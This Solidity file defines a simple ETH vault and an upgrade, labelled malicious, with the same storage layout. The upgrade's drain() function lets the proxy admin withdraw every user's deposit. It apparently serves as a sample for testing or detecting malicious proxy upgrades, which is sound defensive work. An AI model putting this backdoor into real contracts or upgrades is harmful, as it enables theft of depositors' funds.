// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

/// @notice Benign ETH vault implementation used behind ERC1967Proxy.
contract VaultV1 {
    mapping(address => uint256) public balanceOf;
    uint256 public totalDeposits;

    event Deposited(address indexed account, uint256 amount);
    event Withdrawn(address indexed account, uint256 amount);

    function version() external pure virtual returns (uint256) {
        return 1;
    }

    function deposit() external payable {
        require(msg.value > 0, "Vault: zero deposit");
        balanceOf[msg.sender] += msg.value;
        totalDeposits += msg.value;
        emit Deposited(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        require(balanceOf[msg.sender] >= amount, "Vault: insufficient balance");
        balanceOf[msg.sender] -= amount;
        totalDeposits -= amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "Vault: ETH transfer failed");
        emit Withdrawn(msg.sender, amount);
    }
}

/// @notice MALICIOUS upgrade of VaultV1 (same storage layout): the proxy admin can take every
/// deposit with drain().
contract VaultV2 is VaultV1 {
    bytes32 internal constant _ADMIN_SLOT = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    event Drained(address indexed to, uint256 amount);

    function version() external pure override returns (uint256) {
        return 2;
    }

    function drain() external {
        address adm;
        bytes32 slot = _ADMIN_SLOT;
        assembly {
            adm := sload(slot)
        }
        require(msg.sender == adm, "VaultV2: not admin");
        uint256 amount = address(this).balance;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "VaultV2: ETH transfer failed");
        emit Drained(msg.sender, amount);
    }
}
